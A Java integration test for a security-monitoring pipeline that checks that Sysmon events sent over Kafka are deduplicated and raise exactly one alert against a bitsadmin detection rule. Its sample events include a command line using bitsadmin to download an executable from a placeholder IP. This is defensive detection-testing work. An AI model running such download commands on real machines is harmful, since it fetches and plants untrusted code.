package vn.khien.monitoring;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.UUID;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.assertj.MockMvcTester;

import tools.jackson.databind.json.JsonMapper;
import vn.khien.AccessFixtures;
import vn.khien.KhienTest;
import vn.khien.TestLogins;
import vn.khien.monitoring.internal.EventPipeline;
import vn.khien.monitoring.internal.KafkaPipelines;
import vn.khien.monitoring.transport.KafkaBroker;
import vn.khien.monitoring.transport.KafkaSettings;
import vn.khien.monitoring.transport.KafkaTransport;
import vn.khien.monitoring.transport.RawEvent;
import vn.khien.monitoring.transport.TransportSettings;
import vn.khien.registry.Agency;

/**
 * The pipeline on a real Kafka broker (KRaft, in this JVM): a source's lines published to
 * the topic are decoded, placed and matched by the consumer, and a raw event delivered
 * twice (as at-least-once delivery may) is kept once and raises one alert.
 */
@KhienTest
class MonitoringKafkaTests {

	@Autowired
	MockMvcTester mvc;

	@Autowired
	TestLogins logins;

	@Autowired
	JsonMapper json;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	ApplicationContext context;

	@Autowired
	EventPipeline pipeline;

	@Autowired
	EventSources sources;

	@Test
	void linesThroughKafkaAreKeptOnceAndRaiseOneAlert() throws Exception {
		MonitoringCalls api = new MonitoringCalls(mvc, logins, json);
		Agency unit = new AccessFixtures(context).unit("SYT");
		api.source(unit.id());
		long source = jdbc.sql("SELECT source_id FROM event_source_agency WHERE agency_id = :a")
			.param("a", unit.id())
			.query(Long.class)
			.single();
		api.rule(MonitoringTests.BITSADMIN_RULE);
		String host = "kafka" + System.nanoTime() + ".example";
		String line = """
				{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "%s", \
				"Image": "C:\\\\Windows\\\\System32\\\\bitsadmin.exe", \
				"CommandLine": "bitsadmin /transfer job http://203.0.113.5/a.exe C:\\\\a.exe", \
				"@timestamp": "2026-11-30T03:00:00.000Z"}
				""".formatted(host);
		String topic = "khien-test-" + UUID.randomUUID();
		KafkaTransport transport = new KafkaTransport(KafkaSettings.of(KafkaBroker.servers(), topic, 2, topic),
				TransportSettings.defaults());
		transport.start(pipeline::ingestRaw);
		try {
			RawEvent raw = new RawEvent(source, unit.id(), Instant.now(), EventPipeline.RAW_LINES,
					line.getBytes(StandardCharsets.UTF_8));
			assertThat(transport.publish(raw)).isTrue();
			assertThat(transport.publish(raw)).as("the same event again, as a re-delivery brings it").isTrue();
			assertThat(handled(transport, 2)).isEqualTo(2);
		}
		finally {
			transport.stop();
		}
		assertKeptWithOneAlert(host, 1);
	}

	/**
	 * A bulk request when Kafka carries events (the HTTP endpoint's path then): its lines
	 * go on the topic in pieces of whole lines, the consumers decode and match them, and
	 * every line is kept once, the one that fits the rule raising its alert; a line
	 * longer than an event may be is refused before it goes.
	 */
	@Test
	void aBulkRequestGoesOnTheTopicInPiecesOfWholeLinesAndIsDetectedByTheConsumers() throws Exception {
		MonitoringCalls api = new MonitoringCalls(mvc, logins, json);
		Agency unit = new AccessFixtures(context).unit("SYT");
		EventSources.Bound source = sources.authenticate(api.source(unit.id())).orElseThrow();
		api.rule(MonitoringTests.BITSADMIN_RULE);
		String host = "bulk" + System.nanoTime() + ".example";
		StringBuilder body = new StringBuilder();
		int quiet = 1_500;
		for (int i = 0; i < quiet; i++) {
			if (i == quiet / 2) {
				// longer than an event may be (64 KB): refused before it reaches the
				// topic
				body.append("{\"EventID\": 1, \"Computer\": \"")
					.append(host)
					.append("\", \"CommandLine\": \"")
					.append("x".repeat(100_000))
					.append("\"}\n");
			}
			body.append("""
					{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "%s", \
					"Image": "C:\\\\Windows\\\\System32\\\\notepad.exe", "CommandLine": "notepad.exe report-%05d.txt", \
					"@timestamp": "2026-11-30T03:00:00.000Z"}
					""".formatted(host, i));
		}
		body.append("""
				{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "%s", \
				"Image": "C:\\\\Windows\\\\System32\\\\bitsadmin.exe", \
				"CommandLine": "bitsadmin /transfer job http://203.0.113.5/a.exe C:\\\\a.exe", \
				"@timestamp": "2026-11-30T03:00:01.000Z"}
				""".formatted(host));
		byte[] bytes = body.toString().getBytes(StandardCharsets.UTF_8);
		assertThat(bytes.length).as("more than one piece's worth").isGreaterThan(256 * 1024);
		String topic = "khien-test-" + UUID.randomUUID();
		KafkaSettings kafka = KafkaSettings.of(KafkaBroker.servers(), topic, 2, topic);
		KafkaTransport transport = new KafkaTransport(kafka, TransportSettings.defaults());
		EventPipeline onKafka = KafkaPipelines.on(context, transport, kafka);
		transport.start(onKafka::ingestRaw);
		try {
			EventPipeline.Queued queued = onKafka.queue(source, new java.io.ByteArrayInputStream(bytes), false);
			assertThat(queued.pieces()).isEqualTo(2);
			assertThat(queued.refused()).isEqualTo(1);
			assertThat(queued.bytes()).as("every line but the long one").isLessThan(bytes.length - 100_000);
			assertThat(handled(transport, 2)).isEqualTo(2);
		}
		finally {
			transport.stop();
		}
		assertKeptWithOneAlert(host, quiet + 1);
	}

	/**
	 * The records the transport handled, once it has handled {@code expected} (or 30 s
	 * passed).
	 */
	private static long handled(KafkaTransport transport, long expected) throws InterruptedException {
		long handled = 0;
		for (int i = 0; i < 300 && handled < expected; i++) {
			handled = transport.counters().handled();
			Thread.sleep(100);
		}
		return handled;
	}

	/**
	 * The host's events were kept {@code events} times in all, and raised one alert of
	 * one event.
	 */
	private void assertKeptWithOneAlert(String host, long events) {
		assertThat(jdbc.sql("SELECT COUNT(*) FROM monitored_event WHERE host_name = :h")
			.param("h", host)
			.query(Long.class)
			.single()).isEqualTo(events);
		assertThat(jdbc.sql("SELECT event_count FROM alert WHERE host_name = :h")
			.param("h", host)
			.query(Long.class)
			.list()).containsExactly(1L);
	}

}
